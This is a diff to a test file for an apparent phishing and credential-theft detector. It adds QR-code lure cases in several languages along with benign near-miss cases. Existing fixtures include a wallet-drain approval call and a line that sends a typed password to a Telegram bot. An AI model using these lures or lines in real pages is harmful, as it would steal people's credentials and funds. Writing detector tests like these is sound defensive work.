@@ -1,5 +1,6 @@
 // Web pages that take a password, a recovery phrase, a wallet.
 import type { FileFacts } from '../../../src/file/facts.ts'
+import { NO_OFFICE } from '../../../src/file/formats/office/facts.ts'
 import { readScript } from '../../../src/file/formats/script/read.ts'
 import type { FactCases } from './case.ts'
 
@@ -24,6 +25,7 @@ const PAGE: NonNullable<FileFacts['html']> = {
   text: '',
   images: 0,
   filledAddress: '',
+  qrCodes: [],
 }
 const page = (script: string, given: Partial<NonNullable<FileFacts['html']>> = {}): Partial<FileFacts> => ({
   html: { ...PAGE, script: readScript(script, 'javascript').facts, ...given },
@@ -37,7 +39,46 @@ const DRAIN =
   "await ethereum.request({ method: 'eth_sendTransaction', params: [{ from, to: token, data: '0x095ea7b3' + spender + 'f'.repeat(64) }] })"
 const BOT = 'fetch("https://api.telegram.org/bot1:A/sendMessage?text=" + pw.value)'
 
+const scanned = (text: string, code: string): Partial<FileFacts> => ({
+  office: { ...NO_OFFICE, container: 'ooxml', text, qrCodes: [code] },
+})
+
 export const PAGES: FactCases = {
+  document_asks_to_scan_code: {
+    hits: {
+      'a mailbox that expires': scanned(
+        'Your mailbox password expires today. Scan the QR code with your phone to keep it.',
+        'https://secure-mail-9.example/q?e=a@b.example',
+      ),
+      'pay, in German': scanned(
+        'Ihre Gehaltsabrechnung ist da. Bitte scannen Sie den QR-Code mit Ihrem Telefon.',
+        'https://hr-portal.example/x',
+      ),
+      'an account, in Japanese': scanned(
+        'アカウントの確認のため、QRコードをスキャンしてください。',
+        'http://203.0.113.7/a',
+      ),
+      'on a page': {
+        html: { ...PAGE, text: 'Verify: scan the QR code', qrCodes: ['https://a.example-pages.example/'] },
+      },
+    },
+    misses: {
+      'the site is named': scanned(
+        'Scan the QR code to sign in to Example Bank, or go to examplebank.example.',
+        'https://www.examplebank.example/login',
+      ),
+      'no account is spoken of': scanned('Scan the QR code to see the menu.', 'https://menu.example/1'),
+      'the key of an authenticator': scanned(
+        'Scan the QR code with your authenticator to set up two-factor sign-in.',
+        'otpauth://totp/a?secret=JBSWY3DPEHPK3PXP',
+      ),
+      'a guide': scanned(
+        `Scan the QR code to reset the password. ${'Then read on. '.repeat(300)}`,
+        'https://x.example/',
+      ),
+      'a payment slip': scanned('Scannen Sie den QR-Code mit Ihrer Bank-App.', 'BCD\n002\n1\nSCT\n'),
+    },
+  },
   page_hands_password_to_bot: {
     hits: { 'a form and a bot': page(BOT) },
     misses: {
